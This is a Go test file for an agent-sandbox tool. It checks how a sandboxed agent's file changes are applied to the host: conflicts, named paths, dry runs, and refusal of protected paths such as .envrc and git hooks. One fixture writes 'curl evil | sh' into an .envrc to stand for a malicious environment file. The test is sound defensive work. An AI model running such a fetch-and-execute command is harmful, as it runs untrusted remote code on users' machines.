package workspace

import (
	"errors"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/org/agent-sandbox/policy"
)

// patterns parses patterns for --allow-protected.
func patterns(t testing.TB, texts ...string) []policy.Pattern {
	t.Helper()
	var out []policy.Pattern
	for _, text := range texts {
		p, err := policy.ParsePattern(text)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, p)
	}
	return out
}

// applyCase is a project on the host and a finished run.
type applyCase struct {
	ApplyConfig
	cs            *ChangeSet
	before, after treeState
}

func newApplyCase(t testing.TB, before, after treeState) *applyCase {
	t.Helper()
	c := &applyCase{before: before, after: after}
	c.RunDir, c.Target, c.Protected = t.TempDir(), t.TempDir(), policy.Workspace{}.Protector().Tier
	removable(t, c.Target)
	copyTree(t, before, c.Target)
	c.cs = changesBetween(t, c.RunDir, before, after)
	c.cs.Base = c.Target
	c.save(t)
	return c
}

// removable opens every directory again before the test's own cleanup, which can't look into some of them.
func removable(t testing.TB, dir string) {
	t.Cleanup(func() {
		_ = filepath.WalkDir(dir, func(p string, d fs.DirEntry, _ error) error {
			if d != nil && d.IsDir() {
				_ = os.Chmod(p, 0o700)
			}
			return nil
		})
	})
}

func (c *applyCase) save(t testing.TB) {
	t.Helper()
	if err := c.cs.Save(c.RunDir); err != nil {
		t.Fatal(err)
	}
}

func (c *applyCase) apply(t testing.TB) (ApplyResult, error) {
	t.Helper()
	return Apply(t.Context(), c.ApplyConfig)
}

// mustApply fails the test unless everything went well.
func (c *applyCase) mustApply(t testing.TB) ApplyResult {
	t.Helper()
	res, err := c.apply(t)
	if err != nil {
		t.Fatalf("apply: %v (refused %v, conflicts %v)", err, res.Refused, res.Conflicts)
	}
	return res
}

// wantTree compares the host with a state.
func (c *applyCase) wantTree(t testing.TB, want treeState) {
	t.Helper()
	if d := cmp.Diff(readTree(t, c.Target), want); d != "" {
		t.Errorf("host (-got +want)\n%s", d)
	}
}

func (c *applyCase) path(p string) string { return filepath.Join(c.Target, filepath.FromSlash(p)) }

func write(t testing.TB, p, content string) {
	t.Helper()
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// randomCase makes trees that differ by random operations.
func randomCase(t testing.TB, seed uint64, steps int) *applyCase {
	t.Helper()
	m, dir := newTreeMaker(t, seed), t.TempDir()
	for range steps {
		m.step(dir)
	}
	before := readTree(t, dir)
	for range steps {
		m.step(dir)
	}
	c := newApplyCase(t, before, readTree(t, dir))
	c.AllowProtected = patterns(t, "*") // names with escape codes and links out are among them
	return c
}

func TestApplyGivesWhatTheAgentSaw(t *testing.T) {
	for seed := range uint64(30) {
		c := randomCase(t, seed, 40)
		res := c.mustApply(t)
		c.wantTree(t, c.after)
		if len(res.Already)+len(res.Skipped) != 0 || len(res.Applied) != len(c.cs.Changes) {
			t.Errorf("seed %d: %d changes, result %+v", seed, len(c.cs.Changes), res)
		}
		again := c.mustApply(t)
		if len(c.cs.Changes) > 0 && !again.AlreadyApplied() {
			t.Errorf("seed %d: applied twice: %+v", seed, again)
		}
		c.wantTree(t, c.after)
		if t.Failed() {
			t.Fatalf("seed %d", seed)
		}
	}
}

func TestApplyNamedPaths(t *testing.T) {
	before := treeState{"keep": fileEntry("k", 0o644), "old": fileEntry("moved\n", 0o644), "gone": dirEntry(0o755), "gone/x": fileEntry("x", 0o644), "turns": dirEntry(0o755), "turns/in": fileEntry("y", 0o644)}
	after := treeState{
		"keep": fileEntry("K", 0o644), "new": dirEntry(0o755), "new/deep": dirEntry(0o750), "new/deep/f": fileEntry("f", 0o644), "new/other": fileEntry("o", 0o644),
		"moved": fileEntry("moved\n", 0o644), "turns": fileEntry("now a file", 0o644),
	}
	tests := []struct {
		paths []string
		want  []string
	}{
		{[]string{"keep"}, []string{"keep"}},
		{[]string{"new/deep/f"}, []string{"new", "new/deep", "new/deep/f"}},
		{[]string{"new/"}, []string{"new", "new/deep", "new/deep/f", "new/other"}},
		{[]string{"./old"}, []string{"moved"}},
		{[]string{"gone"}, []string{"gone", "gone/x"}},
		{[]string{"turns", "keep"}, []string{"keep", "turns", "turns/in"}},
		{[]string{"."}, []string{"gone", "gone/x", "keep", "moved", "new", "new/deep", "new/deep/f", "new/other", "turns", "turns/in"}},
	}
	for _, tt := range tests {
		c := newApplyCase(t, before, after)
		c.Paths = tt.paths
		if got := c.mustApply(t).Applied; !slices.Equal(got, tt.want) {
			t.Errorf("%q: applied %q, want %q", tt.paths, got, tt.want)
		}
		want := maps.Clone(before)
		for p := range want {
			if e, ok := after[p]; (slices.Contains(tt.want, p) || p == "old" && slices.Contains(tt.want, "moved")) && !ok {
				delete(want, p)
			} else if slices.Contains(tt.want, p) {
				want[p] = e
			}
		}
		for _, p := range tt.want {
			if e, ok := after[p]; ok {
				want[p] = e
			}
		}
		c.wantTree(t, want)
	}
	c := newApplyCase(t, before, after)
	c.Paths = []string{"keep", "nothing/here"}
	if _, err := c.apply(t); err == nil || !strings.Contains(err.Error(), `"nothing/here"`) {
		t.Errorf("unknown path: %v", err)
	}
	c.wantTree(t, before)
}

// What somebody did on the host meanwhile is never overwritten, and one conflict keeps everything as it is.
func TestApplyConflicts(t *testing.T) {
	before := treeState{"edit": fileEntry("1\n", 0o644), "del": fileEntry("2\n", 0o644), "d": dirEntry(0o755), "d/f": fileEntry("3\n", 0o644), "mv": fileEntry("4\n", 0o644), "l": linkEntry("edit"), "t": dirEntry(0o755), "t/x": fileEntry("5", 0o644)}
	after := treeState{"edit": fileEntry("one\n", 0o644), "d": dirEntry(0o755), "d/f": fileEntry("three\n", 0o644), "moved": fileEntry("4\n", 0o644), "l": linkEntry("d"), "new": fileEntry("new\n", 0o644), "t": fileEntry("file\n", 0o644)}
	tests := []struct {
		name string
		host func(c *applyCase) error
		want string // the path with the conflict
	}{
		{"edited", func(c *applyCase) error { return os.WriteFile(c.path("edit"), []byte("host"), 0o644) }, "edit"},
		{"mode", func(c *applyCase) error { return os.Chmod(c.path("edit"), 0o600) }, "edit"},
		{"removed", func(c *applyCase) error { return os.Remove(c.path("edit")) }, "edit"},
		{"became a directory", func(c *applyCase) error {
			return errors.Join(os.Remove(c.path("edit")), os.Mkdir(c.path("edit"), 0o755))
		}, "edit"},
		{"deleted file edited", func(c *applyCase) error { return os.WriteFile(c.path("del"), []byte("host"), 0o644) }, "del"},
		{"new file there", func(c *applyCase) error { return os.WriteFile(c.path("new"), []byte("host"), 0o644) }, "new"},
		{"new file is a dangling link", func(c *applyCase) error { return os.Symlink("/nonexistent", c.path("new")) }, "new"},
		{"rename target there", func(c *applyCase) error { return os.WriteFile(c.path("moved"), []byte("host"), 0o644) }, "moved"},
		{"rename source edited", func(c *applyCase) error { return os.WriteFile(c.path("mv"), []byte("host"), 0o644) }, "moved"},
		{"link retargeted", func(c *applyCase) error { return errors.Join(os.Remove(c.path("l")), os.Symlink("t", c.path("l"))) }, "l"},
		{"directory became a link", func(c *applyCase) error {
			return errors.Join(os.Rename(c.path("d"), c.path("e")), os.Symlink("e", c.path("d")))
		}, "d/f"},
		{"file in a directory that becomes a file", func(c *applyCase) error { return os.WriteFile(c.path("t/host"), nil, 0o644) }, "t"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := newApplyCase(t, before, after)
			if err := tt.host(c); err != nil {
				t.Fatal(err)
			}
			host := readTree(t, c.Target)
			res, err := c.apply(t)
			if !errors.Is(err, ErrConflict) || len(res.Conflicts) != 1 || res.Conflicts[0].Path != tt.want || len(res.Applied) != 0 {
				t.Errorf("err %v, result %+v, want a conflict at %q", err, res, tt.want)
			}
			c.wantTree(t, host)
		})
	}
}

func TestApplyHostChangedIsAConflict(t *testing.T) {
	c := newApplyCase(t, treeState{"f": fileEntry("1", 0o644)}, treeState{"f": fileEntry("2", 0o644)})
	c.cs.Changes[0].HostChanged = true
	c.save(t)
	if res, err := c.apply(t); !errors.Is(err, ErrConflict) {
		t.Errorf("err %v, result %+v", err, res)
	}
	write(t, c.path("f"), "2") // the user did the same by hand
	if res := c.mustApply(t); !res.AlreadyApplied() {
		t.Errorf("result %+v", res)
	}
}

// A directory that the agent removed stays when the host has something in it that the agent did not remove.
func TestApplyKeepsDirectoriesThatAreNotEmpty(t *testing.T) {
	before := treeState{"a": dirEntry(0o755), "a/b": dirEntry(0o755), "a/b/f": fileEntry("f", 0o644)}
	c := newApplyCase(t, before, treeState{})
	write(t, c.path("a/b/host"), "host")
	res := c.mustApply(t)
	if !slices.Equal(res.Applied, []string{"a/b/f"}) || len(res.Skipped) != 2 {
		t.Errorf("result %+v", res)
	}
	c.wantTree(t, treeState{"a": dirEntry(0o755), "a/b": dirEntry(0o755), "a/b/host": fileEntry("host", 0o644)})
}

func TestApplyRefusesProtectedPaths(t *testing.T) {
	after := treeState{
		"src": fileEntry("s", 0o644), ".envrc": fileEntry("curl evil | sh", 0o644), ".git": dirEntry(0o755), ".git/config": fileEntry("x", 0o644),
		".git/index": fileEntry("i", 0o644), "sub": dirEntry(0o755), "sub/.GIT": dirEntry(0o755), "sub/.GIT/hooks": dirEntry(0o755), "sub/.GIT/hooks/pre-commit": fileEntry("x", 0o755),
	}
	host := treeState{"sub": dirEntry(0o755)}
	tests := []struct {
		name             string
		paths, allow     []string
		skip             bool
		applied, refused []string
	}{
		{name: "everything", refused: []string{".envrc"}},
		{name: "the rest", skip: true, applied: []string{"src"}},
		{name: "named", paths: []string{"src"}, applied: []string{"src"}},
		{name: "allowed", allow: []string{".envrc"}, applied: []string{".envrc", "src"}},
		{name: "allowed all but git", allow: []string{"*"}, applied: []string{".envrc", "src"}},
		{name: "git by name", paths: []string{".git/config"}, refused: []string{".git", ".git/config"}},
		{name: "git config allowed", skip: true, allow: []string{".git/config"}, applied: []string{".git/config", "src"}},
		{name: "git allowed", skip: true, allow: []string{"/.git"}, applied: []string{".git", ".git/config", ".git/index", "src"}},
		{name: "folded git", paths: []string{"sub/.GIT/hooks"}, refused: []string{"sub/.GIT", "sub/.GIT/hooks", "sub/.GIT/hooks/pre-commit"}},
		{name: "another name", allow: []string{".envrc2", "sub/.envrc"}, refused: []string{".envrc"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := newApplyCase(t, host, maps.Clone(after))
			if slices.Contains(tt.applied, ".git/config") && !slices.Contains(tt.applied, ".git") {
				if err := os.Mkdir(c.path(".git"), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			c.Paths, c.AllowProtected, c.SkipProtected = tt.paths, patterns(t, tt.allow...), tt.skip
			res, err := c.apply(t)
			if errors.Is(err, ErrRefused) != (tt.refused != nil) || (err != nil && tt.refused == nil) {
				t.Errorf("err %v", err)
			}
			var refused []string
			for _, r := range res.Refused {
				refused = append(refused, r.Path)
			}
			if !slices.Equal(res.Applied, tt.applied) || !slices.Equal(refused, tt.refused) {
				t.Errorf("applied %q, refused %q; want %q, %q; skipped %v", res.Applied, refused, tt.applied, tt.refused, res.Skipped)
			}
			if _, err := os.Lstat(c.path("sub/.GIT")); err == nil {
				t.Error("sub/.GIT was made")
			}
		})
	}
}

// What changes.json says of itself is not believed: tier and the git mark are found again.
func TestApplyClassifiesAgain(t *testing.T) {
	c := newApplyCase(t, treeState{}, treeState{".git": dirEntry(0o755), ".git/hooks": dirEntry(0o755), ".git/hooks/pre-commit": fileEntry("x", 0o755), ".envrc": fileEntry("x", 0o644)})
	res, err := c.apply(t)
	if !errors.Is(err, ErrRefused) || len(res.Refused) != 1 || len(res.Skipped) != 3 {
		t.Errorf("err %v, result %+v", err, res)
	}
	c.wantTree(t, treeState{})
}

func TestApplyCheckChangesNothing(t *testing.T) {
	c := randomCase(t, 5, 30)
	c.Check = true
	if res := c.mustApply(t); len(res.Applied) != len(c.cs.Changes) {
		t.Errorf("result %+v", res)
	}
	c.wantTree(t, c.before)
}

// A mode or a name that changed needs no blob, and a file keeps its time then.
func TestApplyTakesUnchangedContentFromTheHost(t *testing.T) {
	c := newApplyCase(t, treeState{"f": fileEntry("1", 0o644), "g": fileEntry("2", 0o644)}, treeState{"f": fileEntry("1", 0o755), "h": fileEntry("2", 0o644)})
	if err := os.RemoveAll(filepath.Join(c.RunDir, BlobsDir)); err != nil {
		t.Fatal(err)
	}
	want, err := os.Stat(c.path("g"))
	if err != nil {
		t.Fatal(err)
	}
	c.mustApply(t)
	c.wantTree(t, c.after)
	if got, err := os.Stat(c.path("h")); err != nil || !got.ModTime().Equal(want.ModTime()) {
		t.Errorf("renamed file: %v, %v", got.ModTime(), err)
	}
}

func TestDiscardRemovesChangeData(t *testing.T) {
	c := newApplyCase(t, treeState{}, treeState{"f": fileEntry("f", 0o644)})
	keep := filepath.Join(c.RunDir, "plan.json")
	write(t, keep, "{}")
	if err := Discard(c.RunDir); err != nil {
		t.Fatal(err)
	}
	if got := readTree(t, c.RunDir).paths(); !slices.Equal(got, []string{"plan.json"}) {
		t.Errorf("left: %q", got)
	}
	if _, err := c.apply(t); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("apply after discard: %v", err)
	}
}
